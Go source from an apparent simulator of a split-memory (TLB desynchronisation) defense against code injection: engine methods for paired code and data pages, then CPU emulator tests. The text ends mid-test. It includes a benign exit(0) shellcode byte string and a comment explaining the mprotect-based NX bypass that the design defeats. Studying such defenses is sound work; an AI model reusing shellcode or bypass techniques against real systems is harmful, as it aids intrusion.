func (e *Engine) DataFrame(p *kernel.Process, vpn uint32) (uint32, bool) {
	st := e.state(p)
	if pr, ok := st.pairs[vpn]; ok {
		return pr.data, true
	}
	return 0, false
}

// ForkPage implements kernel.Protector: split pages are duplicated eagerly
// on fork — both twins are copied for the child (§5.4's COW modification,
// simplified to eager copies; see DESIGN.md).
func (e *Engine) ForkPage(k *kernel.Kernel, parent, child *kernel.Process, vpn uint32, ent paging.Entry) (paging.Entry, bool) {
	if e.cfg.Paranoid {
		defer e.audit(k, "ForkPage")
	}
	pst := e.state(parent)
	pr, ok := pst.pairs[vpn]
	if !ok {
		return 0, false
	}
	var code uint32
	if pr.code != 0 {
		var err error
		code, err = k.Phys().Alloc()
		if err != nil {
			return 0, true
		}
		k.Phys().CopyFrame(code, pr.code)
	} else {
		e.stats.LazyPairs++
	}
	data, err := k.Phys().Alloc()
	if err != nil {
		if code != 0 {
			k.Phys().Free(code)
		}
		return 0, true
	}
	k.Phys().CopyFrame(data, pr.data)
	cst := e.state(child)
	cst.pairs[vpn] = &pagePair{code: code, data: data, perm: pr.perm}
	e.stats.SplitPages++
	e.stats.TotalSplits++
	ce := paging.Entry(0).WithFrame(data).With(paging.Present | paging.Split)
	if pr.perm&loader.PermW != 0 {
		ce = ce.With(paging.Writable)
	}
	return ce, true
}

// ReleasePage implements kernel.Protector: both twins return to the free
// pool (§5.4 program-termination handling).
func (e *Engine) ReleasePage(k *kernel.Kernel, p *kernel.Process, vpn uint32, ent paging.Entry) bool {
	if e.cfg.Paranoid {
		defer e.audit(k, "ReleasePage")
	}
	st := e.state(p)
	pr, ok := st.pairs[vpn]
	if !ok {
		return false
	}
	if pr.code != 0 {
		k.Phys().Free(pr.code)
	} else {
		e.stats.LazyPairs--
	}
	k.Phys().Free(pr.data)
	delete(st.pairs, vpn)
	e.stats.SplitPages--
	// TLB shootdown on unmap: without it the TLBs keep serving the freed
	// twins until the next context switch.
	k.Machine().Invlpg(vpn << mem.PageShift)
	return true
}

// materializeTwin allocates and fills a deferred code twin.
func (e *Engine) materializeTwin(k *kernel.Kernel, pr *pagePair) bool {
	code, err := k.Phys().Alloc()
	if err != nil {
		return false
	}
	if e.cfg.Response == Observe || e.cfg.Response == Forensics {
		fill := k.Phys().Frame(code)
		for i := range fill {
			fill[i] = byte(isa.OpUndef)
		}
	}
	// Break/recovery: leave the twin zeroed (an illegal instruction on S86
	// as on x86). Never copy the data twin: it may hold injected bytes.
	pr.code = code
	e.stats.LazyPairs--
	k.Machine().AddCycles(k.Machine().Cost.DemandFill)
	return true
}

// ProtectPage implements kernel.Protector (mprotect support). For split
// pages only the writable bit changes: the code twin keeps its original
// content, so an mprotect-based re-protection attack (make the injected
// buffer executable, then jump to it) still fetches from the uncompromised
// code twin — the bypass that defeats NX (§2, [4]) fails here.
func (e *Engine) ProtectPage(k *kernel.Kernel, p *kernel.Process, vpn uint32, ent paging.Entry, perm byte) bool {
	if e.cfg.Paranoid {
		defer e.audit(k, "ProtectPage")
	}
	st := e.state(p)
	pr, ok := st.pairs[vpn]
	if !ok {
		// Unsplit page: behave like the NX/plain fallback this engine
		// applied at map time.
		ne := ent.Without(paging.Writable | paging.NX)
		if perm&loader.PermW != 0 {
			ne = ne.With(paging.Writable)
		}
		if e.cfg.UnsplitNX && perm&loader.PermX == 0 {
			ne = ne.With(paging.NX)
		}
		p.PT.Set(vpn, ne)
		return true
	}
	pr.perm = perm
	ne := ent.Without(paging.Writable)
	if perm&loader.PermW != 0 {
		ne = ne.With(paging.Writable)
	}
	p.PT.Set(vpn, ne)
	return true
}

// ExitShellcode is the paper's published exit(0) forensic shellcode
// (§6.1.3); it assembles to the identical bytes on S86.
func ExitShellcode() []byte {
	return []byte("\xbb\x00\x00\x00\x00" + // mov ebx, 0
		"\xb8\x01\x00\x00\x00" + // mov eax, 1
		"\xcd\x80") // int 0x80
}
