package cpu

import (
	"math/rand"
	"testing"
	"testing/quick"

	"splitmem/internal/isa"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
)

// testHandler is a scripted trap handler for direct machine tests.
type testHandler struct {
	pageFaults []PageFault
	debugs     int
	ints       []byte
	undefs     int
	gps        int
	des        int
	bps        int

	onPageFault func(addr, code uint32) Action
	onDebug     func() Action
	onInt       func(v byte) Action
}

func (h *testHandler) PageFault(addr, code uint32) Action {
	h.pageFaults = append(h.pageFaults, PageFault{Addr: addr, Code: code})
	if h.onPageFault != nil {
		return h.onPageFault(addr, code)
	}
	return ActStop
}
func (h *testHandler) DebugTrap() Action {
	h.debugs++
	if h.onDebug != nil {
		return h.onDebug()
	}
	return ActResume
}
func (h *testHandler) Breakpoint() Action { h.bps++; return ActStop }
func (h *testHandler) Interrupt(v byte) Action {
	h.ints = append(h.ints, v)
	if h.onInt != nil {
		return h.onInt(v)
	}
	return ActStop
}
func (h *testHandler) Undefined() Action         { h.undefs++; return ActStop }
func (h *testHandler) GeneralProtection() Action { h.gps++; return ActStop }
func (h *testHandler) DivideError() Action       { h.des++; return ActStop }

// newTestMachine maps `code` at codeBase and a zeroed data page at dataBase,
// both user-accessible.
func newTestMachine(t *testing.T, code []byte) (*Machine, *testHandler) {
	t.Helper()
	return newTestMachineCfg(t, Config{PhysBytes: 1 << 20}, code)
}

// newTestMachineCfg is newTestMachine with an explicit machine configuration
// (the decode-cache tests need DecodeCache set).
func newTestMachineCfg(t *testing.T, cfg Config, code []byte) (*Machine, *testHandler) {
	t.Helper()
	m, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	h := &testHandler{}
	m.SetHandler(h)
	pt := new(paging.Table)

	codeFrame, _ := m.Phys.Alloc()
	copy(m.Phys.Frame(codeFrame), code)
	pt.Set(codeVPN, paging.Entry(0).WithFrame(codeFrame).With(paging.Present|paging.User))

	dataFrame, _ := m.Phys.Alloc()
	pt.Set(dataVPN, paging.Entry(0).WithFrame(dataFrame).With(paging.Present|paging.User|paging.Writable))

	stackFrame, _ := m.Phys.Alloc()
	pt.Set(stackVPN, paging.Entry(0).WithFrame(stackFrame).With(paging.Present|paging.User|paging.Writable))

	m.SetPagetable(pt)
	m.Ctx = Context{EIP: codeBase}
	m.Ctx.R[isa.ESP] = stackBase + mem.PageSize - 16
	return m, h
}

const (
	codeBase  = 0x00010000
	codeVPN   = codeBase >> mem.PageShift
	dataBase  = 0x00020000
	dataVPN   = dataBase >> mem.PageShift
	stackBase = 0x00030000
	stackVPN  = stackBase >> mem.PageShift
)

func asmBytes(ins ...isa.Instr) []byte {
	var b []byte
	for _, in := range ins {
		b = isa.Encode(b, in)
	}
	return b
}

func stepN(t *testing.T, m *Machine, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		if m.Step() == StepStopped {
			t.Fatalf("stopped at step %d (EIP=%#x)", i, m.Ctx.EIP)
		}
	}
}

func TestArithmeticAndFlags(t *testing.T) {
	tests := []struct {
		name  string
		ins   []isa.Instr
		reg   byte
		want  uint32
		flags Flags
	}{
		{"add", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: 2},
			{Op: isa.OpAddImm, R1: isa.EAX, Imm: 3},
		}, isa.EAX, 5, Flags{}},
		{"add overflow", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: 0x7fffffff},
			{Op: isa.OpAddImm, R1: isa.EAX, Imm: 1},
		}, isa.EAX, 0x80000000, Flags{SF: true, OF: true}},
		{"add carry", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: 0xffffffff},
			{Op: isa.OpAddImm, R1: isa.EAX, Imm: 1},
		}, isa.EAX, 0, Flags{ZF: true, CF: true}},
		{"sub borrow", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: 1},
			{Op: isa.OpSubImm, R1: isa.EAX, Imm: 2},
		}, isa.EAX, 0xffffffff, Flags{SF: true, CF: true}},
		{"xor self", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.ECX, Imm: 77},
			{Op: isa.OpXor, R1: isa.ECX, R2: isa.ECX},
		}, isa.ECX, 0, Flags{ZF: true}},
		{"mul", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EDX, Imm: 7},
			{Op: isa.OpMulImm, R1: isa.EDX, Imm: 6},
		}, isa.EDX, 42, Flags{}},
		{"shl", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EBX, Imm: 1},
			{Op: isa.OpShl, R1: isa.EBX, Imm: 31},
		}, isa.EBX, 0x80000000, Flags{SF: true}},
		{"shr", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EBX, Imm: 0x80000000},
			{Op: isa.OpShr, R1: isa.EBX, Imm: 31},
		}, isa.EBX, 1, Flags{}},
		{"and", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.ESI, Imm: 0xff00ff00},
			{Op: isa.OpAndImm, R1: isa.ESI, Imm: 0x0ff00ff0},
		}, isa.ESI, 0x0f000f00, Flags{}},
		{"or", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EDI, Imm: 0xf0},
			{Op: isa.OpOrImm, R1: isa.EDI, Imm: 0x0f},
		}, isa.EDI, 0xff, Flags{}},
		{"div", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: 42},
			{Op: isa.OpMovImm, R1: isa.ECX, Imm: 5},
			{Op: isa.OpDiv, R1: isa.EAX, R2: isa.ECX},
		}, isa.EAX, 8, Flags{}},
		{"mod", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: 42},
			{Op: isa.OpMovImm, R1: isa.ECX, Imm: 5},
			{Op: isa.OpMod, R1: isa.EAX, R2: isa.ECX},
		}, isa.EAX, 2, Flags{}},
		{"lea", []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EBX, Imm: 100},
			{Op: isa.OpLea, R1: isa.EAX, R2: isa.EBX, Imm: 28},
		}, isa.EAX, 128, Flags{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, _ := newTestMachine(t, asmBytes(tt.ins...))
			stepN(t, m, len(tt.ins))
			if got := m.Ctx.R[tt.reg]; got != tt.want {
				t.Errorf("reg=%#x want %#x", got, tt.want)
			}
			if m.Ctx.Flags != tt.flags {
				t.Errorf("flags=%+v want %+v", m.Ctx.Flags, tt.flags)
			}
		})
	}
}

func TestConditionalJumps(t *testing.T) {
	// cmp a, b then jcc: table of (a, b, op, taken).
	tests := []struct {
		a, b  uint32
		op    isa.Op
		taken bool
	}{
		{5, 5, isa.OpJz, true},
		{5, 6, isa.OpJz, false},
		{5, 6, isa.OpJnz, true},
		{1, 2, isa.OpJl, true},
		{2, 1, isa.OpJl, false},
		{0xffffffff, 1, isa.OpJl, true},  // -1 < 1 signed
		{0xffffffff, 1, isa.OpJae, true}, // 0xffffffff >= 1 unsigned
		{1, 0xffffffff, isa.OpJb, true},  // 1 < 0xffffffff unsigned
		{1, 0xffffffff, isa.OpJg, true},  // 1 > -1 signed
		{3, 3, isa.OpJge, true},
		{3, 3, isa.OpJle, true},
		{3, 3, isa.OpJa, false},
		{3, 3, isa.OpJbe, true},
		{4, 3, isa.OpJa, true},
	}
	for _, tt := range tests {
		ins := []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: tt.a},
			{Op: isa.OpMovImm, R1: isa.ECX, Imm: tt.b},
			{Op: isa.OpCmp, R1: isa.EAX, R2: isa.ECX},
			{Op: tt.op, Imm: 5},                       // skip next mov if taken
			{Op: isa.OpMovImm, R1: isa.EDI, Imm: 111}, // skipped when taken
			{Op: isa.OpMovImm, R1: isa.ESI, Imm: 222}, // always
		}
		m, _ := newTestMachine(t, asmBytes(ins...))
		steps := len(ins)
		if tt.taken {
			steps--
		}
		stepN(t, m, steps)
		gotTaken := m.Ctx.R[isa.EDI] == 0
		if gotTaken != tt.taken {
			t.Errorf("%v(%#x,%#x): taken=%v want %v", tt.op.Name(), tt.a, tt.b, gotTaken, tt.taken)
		}
		if m.Ctx.R[isa.ESI] != 222 {
			t.Errorf("%v: fallthrough instruction not executed", tt.op.Name())
		}
	}
}

func TestCallRetStack(t *testing.T) {
	// call +5 (to the mov), mov eax, 9, ret would return to after call...
	// build: call f; hlt; f: mov eax, 9; ret -- but ret goes back to hlt,
	// which raises #GP. Instead: call f; mov ebx, 1; int3 ... simpler to
	// verify ESP and the pushed return address directly.
	ins := []isa.Instr{
		{Op: isa.OpCall, Imm: 0}, // call next instruction
		{Op: isa.OpPop, R1: isa.EAX},
	}
	m, _ := newTestMachine(t, asmBytes(ins...))
	sp0 := m.Ctx.R[isa.ESP]
	stepN(t, m, 2)
	if m.Ctx.R[isa.EAX] != codeBase+5 {
		t.Errorf("pushed return address %#x want %#x", m.Ctx.R[isa.EAX], codeBase+5)
	}
	if m.Ctx.R[isa.ESP] != sp0 {
		t.Errorf("stack imbalance: %#x vs %#x", m.Ctx.R[isa.ESP], sp0)
	}
}

func TestLoadStore(t *testing.T) {
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EBX, Imm: dataBase},
		{Op: isa.OpMovImm, R1: isa.EAX, Imm: 0xCAFEBABE},
		{Op: isa.OpStore, R1: isa.EBX, R2: isa.EAX, Imm: 8},
		{Op: isa.OpLoad, R1: isa.ECX, R2: isa.EBX, Imm: 8},
		{Op: isa.OpLoadB, R1: isa.EDX, R2: isa.EBX, Imm: 8},
		{Op: isa.OpStoreB, R1: isa.EBX, R2: isa.EDX, Imm: 100},
		{Op: isa.OpLoadB, R1: isa.ESI, R2: isa.EBX, Imm: 100},
	}
	m, _ := newTestMachine(t, asmBytes(ins...))
	stepN(t, m, len(ins))
	if m.Ctx.R[isa.ECX] != 0xCAFEBABE {
		t.Errorf("load: %#x", m.Ctx.R[isa.ECX])
	}
	if m.Ctx.R[isa.EDX] != 0xBE {
		t.Errorf("loadb: %#x", m.Ctx.R[isa.EDX])
	}
	if m.Ctx.R[isa.ESI] != 0xBE {
		t.Errorf("storeb round trip: %#x", m.Ctx.R[isa.ESI])
	}
}

func TestSyscallGate(t *testing.T) {
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EAX, Imm: 1},
		{Op: isa.OpInt, Imm: 0x80},
	}
	m, h := newTestMachine(t, asmBytes(ins...))
	stepN(t, m, 1)
	if m.Step() != StepStopped {
		t.Fatal("int should stop via handler")
	}
	if len(h.ints) != 1 || h.ints[0] != 0x80 {
		t.Fatalf("ints=%v", h.ints)
	}
	// EIP advanced past the int before the handler ran.
	if m.Ctx.EIP != codeBase+7 {
		t.Fatalf("EIP=%#x", m.Ctx.EIP)
	}
}

func TestFaultDelivery(t *testing.T) {
	t.Run("divide error", func(t *testing.T) {
		ins := []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: 1},
			{Op: isa.OpDiv, R1: isa.EAX, R2: isa.ECX}, // ecx = 0
		}
		m, h := newTestMachine(t, asmBytes(ins...))
		stepN(t, m, 1)
		if m.Step() != StepStopped || h.des != 1 {
			t.Fatalf("des=%d", h.des)
		}
	})
	t.Run("undefined opcode", func(t *testing.T) {
		m, h := newTestMachine(t, []byte{0x0F})
		if m.Step() != StepStopped || h.undefs != 1 {
			t.Fatalf("undefs=%d", h.undefs)
		}
	})
	t.Run("hlt is privileged", func(t *testing.T) {
		m, h := newTestMachine(t, asmBytes(isa.Instr{Op: isa.OpHlt}))
		if m.Step() != StepStopped || h.gps != 1 {
			t.Fatalf("gps=%d", h.gps)
		}
	})
	t.Run("int3 breakpoint", func(t *testing.T) {
		m, h := newTestMachine(t, asmBytes(isa.Instr{Op: isa.OpInt3}))
		if m.Step() != StepStopped || h.bps != 1 {
			t.Fatalf("bps=%d", h.bps)
		}
	})
	t.Run("unmapped read", func(t *testing.T) {
		ins := []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EBX, Imm: 0xDEAD0000},
			{Op: isa.OpLoad, R1: isa.EAX, R2: isa.EBX},
		}
		m, h := newTestMachine(t, asmBytes(ins...))
		stepN(t, m, 1)
		if m.Step() != StepStopped || len(h.pageFaults) != 1 {
			t.Fatalf("pfs=%v", h.pageFaults)
		}
		pf := h.pageFaults[0]
		if pf.Addr != 0xDEAD0000 || pf.IsFetch() || pf.IsWrite() || pf.IsProtection() {
			t.Fatalf("pf=%+v", pf)
		}
		if m.CR2 != 0xDEAD0000 {
			t.Fatalf("CR2=%#x", m.CR2)
		}
	})
	t.Run("write to read-only", func(t *testing.T) {
		ins := []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EBX, Imm: codeBase},
			{Op: isa.OpStore, R1: isa.EBX, R2: isa.EAX},
		}
		m, h := newTestMachine(t, asmBytes(ins...))
		stepN(t, m, 1)
		if m.Step() != StepStopped || len(h.pageFaults) != 1 {
			t.Fatal("expected one page fault")
		}
		pf := h.pageFaults[0]
		if !pf.IsWrite() || !pf.IsProtection() {
			t.Fatalf("pf=%+v", pf)
		}
	})
}

// TestFaultingInstructionHasNoSideEffects: a push that faults must leave
// ESP untouched (restartability).
func TestFaultingInstructionHasNoSideEffects(t *testing.T) {
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.ESP, Imm: 0xDEAD0008},
		{Op: isa.OpPush, R1: isa.EAX},
	}
	m, _ := newTestMachine(t, asmBytes(ins...))
	stepN(t, m, 1)
	if m.Step() != StepStopped {
		t.Fatal("expected fault")
	}
	if m.Ctx.R[isa.ESP] != 0xDEAD0008 {
		t.Fatalf("ESP=%#x: side effect leaked from faulting push", m.Ctx.R[isa.ESP])
	}
	if m.Ctx.EIP != codeBase+5 {
		t.Fatalf("EIP=%#x: must still point at the faulting instruction", m.Ctx.EIP)
	}
}

// TestTrapFlagSingleStep: with TF set, the debug handler runs after exactly
// one completed instruction.
func TestTrapFlagSingleStep(t *testing.T) {
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EAX, Imm: 1},
		{Op: isa.OpMovImm, R1: isa.EAX, Imm: 2},
	}
	m, h := newTestMachine(t, asmBytes(ins...))
	m.Ctx.Flags.TF = true
	h.onDebug = func() Action {
		m.Ctx.Flags.TF = false
		return ActResume
	}
	stepN(t, m, 2)
	if h.debugs != 1 {
		t.Fatalf("debugs=%d want 1", h.debugs)
	}
	if m.Ctx.R[isa.EAX] != 2 {
		t.Fatalf("eax=%d", m.Ctx.R[isa.EAX])
	}
}

// TestTLBCachesStaleEntry is the architectural foundation of the whole
// paper: after a translation is cached, changing the PTE does NOT change
// where accesses go until the TLB entry is invalidated.
func TestTLBCachesStaleEntry(t *testing.T) {
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EBX, Imm: dataBase},
		{Op: isa.OpLoad, R1: isa.EAX, R2: isa.EBX}, // fills DTLB
		{Op: isa.OpLoad, R1: isa.ECX, R2: isa.EBX}, // hits stale DTLB
	}
	m, _ := newTestMachine(t, asmBytes(ins...))
	oldFrame := m.Pagetable().Get(dataVPN).Frame()
	m.Phys.Write32(oldFrame<<mem.PageShift, 0x11111111)
	stepN(t, m, 2)
	if m.Ctx.R[isa.EAX] != 0x11111111 {
		t.Fatalf("first load %#x", m.Ctx.R[isa.EAX])
	}
	// Re-point the PTE at a different frame holding different content.
	newFrame, _ := m.Phys.Alloc()
	m.Phys.Write32(newFrame<<mem.PageShift, 0x22222222)
	m.Pagetable().Set(dataVPN, m.Pagetable().Get(dataVPN).WithFrame(newFrame))
	stepN(t, m, 1)
	if m.Ctx.R[isa.ECX] != 0x11111111 {
		t.Fatalf("stale TLB should still serve the old frame, got %#x", m.Ctx.R[isa.ECX])
	}
	// After invlpg the new mapping takes effect.
	m.Invlpg(dataBase)
	m.Ctx.EIP = codeBase + 5 + 7 // rerun the load into ECX
	stepN(t, m, 1)
	if m.Ctx.R[isa.ECX] != 0x22222222 {
		t.Fatalf("after invlpg got %#x", m.Ctx.R[isa.ECX])
	}
}

// TestITLBvsDTLBDesync: the split-TLB property — a fetch and a data access
// to the same virtual page can resolve to different frames.
func TestITLBvsDTLBDesync(t *testing.T) {
	// Program at codeBase reads its own first byte.
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EBX, Imm: codeBase},
		{Op: isa.OpLoadB, R1: isa.EAX, R2: isa.EBX}, // fills DTLB for code page
		{Op: isa.OpNop},
	}
	m, _ := newTestMachine(t, asmBytes(ins...))
	stepN(t, m, 2)
	// Now desynchronize: point the PTE at a second frame and invalidate
	// only the DTLB (simulating what the split engine arranges).
	twin, _ := m.Phys.Alloc()
	m.Phys.SetByte(twin<<mem.PageShift, 0x77)
	pte := m.Pagetable().Get(codeVPN)
	m.Pagetable().Set(codeVPN, pte.WithFrame(twin))
	m.DTLB.Invalidate(codeVPN)
	// Fetch still uses the ITLB (old frame: the nop executes fine) while a
	// data read now sees the twin.
	m.Ctx.EIP = codeBase + 5 // re-run the loadb
	stepN(t, m, 1)
	if m.Ctx.R[isa.EAX] != 0x77 {
		t.Fatalf("data view should be the twin, got %#x", m.Ctx.R[isa.EAX])
	}
	stepN(t, m, 1) // the nop fetched through the stale ITLB
	itlbE, ok := m.ITLB.Probe(codeVPN)
	if !ok {
		t.Fatal("ITLB lost its entry")
	}
	dtlbE, ok := m.DTLB.Probe(codeVPN)
	if !ok {
		t.Fatal("DTLB has no entry")
	}
	if itlbE.Frame == dtlbE.Frame {
		t.Fatal("TLBs should be desynchronized")
	}
}

func TestNXFetchFault(t *testing.T) {
	m, err := New(Config{PhysBytes: 1 << 20, NXEnabled: true})
	if err != nil {
		t.Fatal(err)
	}
	h := &testHandler{}
	m.SetHandler(h)
	pt := new(paging.Table)
	f, _ := m.Phys.Alloc()
	copy(m.Phys.Frame(f), asmBytes(isa.Instr{Op: isa.OpNop}))
	pt.Set(codeVPN, paging.Entry(0).WithFrame(f).With(paging.Present|paging.User|paging.NX))
	m.SetPagetable(pt)
	m.Ctx.EIP = codeBase
	if m.Step() != StepStopped || len(h.pageFaults) != 1 {
		t.Fatal("expected NX fetch fault")
	}
	if !h.pageFaults[0].IsFetch() || !h.pageFaults[0].IsProtection() {
		t.Fatalf("pf=%+v", h.pageFaults[0])
	}
}

func TestNXIgnoredOnLegacyHardware(t *testing.T) {
	m, _ := newTestMachine(t, nil) // NXEnabled=false
	pt := m.Pagetable()
	pt.Set(codeVPN, pt.Get(codeVPN).With(paging.NX))
	code := asmBytes(isa.Instr{Op: isa.OpMovImm, R1: isa.EAX, Imm: 7})
	copy(m.Phys.Frame(pt.Get(codeVPN).Frame()), code)
	stepN(t, m, 1)
	if m.Ctx.R[isa.EAX] != 7 {
		t.Fatal("legacy hardware must ignore the NX bit")
	}
}

func TestSupervisorTouchFillsDTLB(t *testing.T) {
	m, _ := newTestMachine(t, nil)
	if _, ok := m.DTLB.Probe(dataVPN); ok {
		t.Fatal("DTLB should start cold")
	}
	if !m.SupervisorTouch(dataBase + 123) {
		t.Fatal("touch failed")
	}
	e, ok := m.DTLB.Probe(dataVPN)
	if !ok {
		t.Fatal("touch did not fill the DTLB")
	}
	if e.Frame != m.Pagetable().Get(dataVPN).Frame() {
		t.Fatal("wrong frame cached")
	}
	// Restricted pages can still be touched by the kernel; the cached
	// entry records the restriction.
	m.Pagetable().Set(dataVPN, m.Pagetable().Get(dataVPN).Without(paging.User))
	m.DTLB.Invalidate(dataVPN)
	if !m.SupervisorTouch(dataBase) {
		t.Fatal("supervisor touch must ignore the user bit")
	}
	e, _ = m.DTLB.Probe(dataVPN)
	if e.User {
		t.Fatal("cached entry must record the supervisor restriction")
	}
	// Touch of an unmapped page reports failure.
	if m.SupervisorTouch(0xDEAD0000) {
		t.Fatal("touch of unmapped page should fail")
	}
}

func TestPageCrossingInstruction(t *testing.T) {
	// Place a 5-byte mov so it straddles the code page boundary into an
	// adjacent mapped page.
	m, _ := newTestMachine(t, nil)
	pt := m.Pagetable()
	f2, _ := m.Phys.Alloc()
	pt.Set(codeVPN+1, paging.Entry(0).WithFrame(f2).With(paging.Present|paging.User))
	code := asmBytes(isa.Instr{Op: isa.OpMovImm, R1: isa.EAX, Imm: 0x12345678})
	start := uint32(mem.PageSize - 2) // 2 bytes on page 1, 3 on page 2
	f1 := pt.Get(codeVPN).Frame()
	copy(m.Phys.Frame(f1)[start:], code[:2])
	copy(m.Phys.Frame(f2), code[2:])
	m.Ctx.EIP = codeBase + start
	stepN(t, m, 1)
	if m.Ctx.R[isa.EAX] != 0x12345678 {
		t.Fatalf("eax=%#x", m.Ctx.R[isa.EAX])
	}
}

func TestPageCrossingStoreAtomicity(t *testing.T) {
	// A 32-bit store crossing into an unmapped page must fault without
	// writing the first bytes.
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EBX, Imm: dataBase + mem.PageSize - 2},
		{Op: isa.OpMovImm, R1: isa.EAX, Imm: 0xAABBCCDD},
		{Op: isa.OpStore, R1: isa.EBX, R2: isa.EAX},
	}
	m, _ := newTestMachine(t, asmBytes(ins...))
	stepN(t, m, 2)
	if m.Step() != StepStopped {
		t.Fatal("expected fault")
	}
	frame := m.Pagetable().Get(dataVPN).Frame()
	if got := m.Phys.Frame(frame)[mem.PageSize-2]; got != 0 {
		t.Fatalf("partial store leaked: %#x", got)
	}
}

func TestCycleAccounting(t *testing.T) {
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EAX, Imm: 1},
		{Op: isa.OpNop},
	}
	m, _ := newTestMachine(t, asmBytes(ins...))
	c0 := m.Cycles
	stepN(t, m, 2)
	if m.Cycles <= c0 {
		t.Fatal("no cycles charged")
	}
	if m.Stats.Instructions != 2 {
		t.Fatalf("instructions=%d", m.Stats.Instructions)
	}
	// Second run of the same code: TLB hits, cheaper than the cold run.
	warmStart := m.Cycles
	m.Ctx.EIP = codeBase
	stepN(t, m, 2)
	warm := m.Cycles - warmStart
	if warm >= m.Cycles-c0-warm {
		t.Fatalf("warm run (%d cycles) should be cheaper than cold (%d)", warm, m.Cycles-c0-warm)
	}
}

func TestSetPagetableFlushesTLBs(t *testing.T) {
	m, _ := newTestMachine(t, asmBytes(
		isa.Instr{Op: isa.OpMovImm, R1: isa.EBX, Imm: dataBase},
		isa.Instr{Op: isa.OpLoad, R1: isa.EAX, R2: isa.EBX},
	))
	stepN(t, m, 2)
	if m.ITLB.Valid() == 0 || m.DTLB.Valid() == 0 {
		t.Fatal("TLBs should be warm")
	}
	other := new(paging.Table)
	m.SetPagetable(other)
	if m.ITLB.Valid() != 0 || m.DTLB.Valid() != 0 {
		t.Fatal("CR3 load must flush both TLBs")
	}
	// Reloading the same table is a no-op (no flush).
	m.SetPagetable(other)
}

func TestTLBStatsExposed(t *testing.T) {
	m, _ := newTestMachine(t, asmBytes(isa.Instr{Op: isa.OpNop}, isa.Instr{Op: isa.OpNop}))
	stepN(t, m, 2)
	hits, misses, _, _ := m.ITLB.Stats()
	if misses == 0 || hits == 0 {
		t.Fatalf("itlb hits=%d misses=%d", hits, misses)
	}
}

// TestAccessedDirtyBits: the hardware walker maintains A and D.
func TestAccessedDirtyBits(t *testing.T) {
	ins := []isa.Instr{
		{Op: isa.OpMovImm, R1: isa.EBX, Imm: dataBase},
		{Op: isa.OpLoad, R1: isa.EAX, R2: isa.EBX},
		{Op: isa.OpStore, R1: isa.EBX, R2: isa.EAX, Imm: 4},
	}
	m, _ := newTestMachine(t, asmBytes(ins...))
	if e := m.Pagetable().Get(dataVPN); uint64(e)&paging.Accessed != 0 {
		t.Fatal("A set before any access")
	}
	stepN(t, m, 2) // load
	e := m.Pagetable().Get(dataVPN)
	if uint64(e)&paging.Accessed == 0 {
		t.Fatal("A not set after read")
	}
	if uint64(e)&paging.Dirty != 0 {
		t.Fatal("D set after read only")
	}
	// The store hits the DTLB (no new walk), so D stays clear — exactly
	// how hardware behaves when the entry was cached by a read. Force a
	// re-walk to observe D.
	m.DTLB.Invalidate(dataVPN)
	stepN(t, m, 1) // store
	e = m.Pagetable().Get(dataVPN)
	if uint64(e)&paging.Dirty == 0 {
		t.Fatal("D not set after write walk")
	}
}

// TestFetchIntoUnmappedPage: an instruction stream running off the end of
// its page faults with a fetch code.
func TestFetchIntoUnmappedPage(t *testing.T) {
	m, h := newTestMachine(t, nil)
	// Fill the last bytes of the code page with NOPs; the next fetch walks
	// into an unmapped page.
	frame := m.Pagetable().Get(codeVPN).Frame()
	fr := m.Phys.Frame(frame)
	for i := mem.PageSize - 4; i < mem.PageSize; i++ {
		fr[i] = 0x90
	}
	m.Ctx.EIP = codeBase + mem.PageSize - 4
	stepN(t, m, 4)
	if m.Step() != StepStopped {
		t.Fatal("expected fetch fault")
	}
	if len(h.pageFaults) != 1 || !h.pageFaults[0].IsFetch() {
		t.Fatalf("pf=%v", h.pageFaults)
	}
	if h.pageFaults[0].Addr != codeBase+mem.PageSize {
		t.Fatalf("addr=%#x", h.pageFaults[0].Addr)
	}
}

// TestQuickArithmeticModel cross-checks machine arithmetic and flags
// against a plain Go reference model on random operands.
func TestQuickArithmeticModel(t *testing.T) {
	run := func(op isa.Op, a, b uint32) (uint32, Flags) {
		ins := []isa.Instr{
			{Op: isa.OpMovImm, R1: isa.EAX, Imm: a},
			{Op: isa.OpMovImm, R1: isa.ECX, Imm: b},
			{Op: op, R1: isa.EAX, R2: isa.ECX},
		}
		m, _ := newTestMachine(t, asmBytes(ins...))
		stepN(t, m, 3)
		return m.Ctx.R[isa.EAX], m.Ctx.Flags
	}
	f := func(a, b uint32) bool {
		// add
		r, fl := run(isa.OpAdd, a, b)
		want := a + b
		if r != want || fl.ZF != (want == 0) || fl.SF != (int32(want) < 0) ||
			fl.CF != (want < a) ||
			fl.OF != ((a^want)&(b^want)&0x80000000 != 0) {
			return false
		}
		// sub
		r, fl = run(isa.OpSub, a, b)
		want = a - b
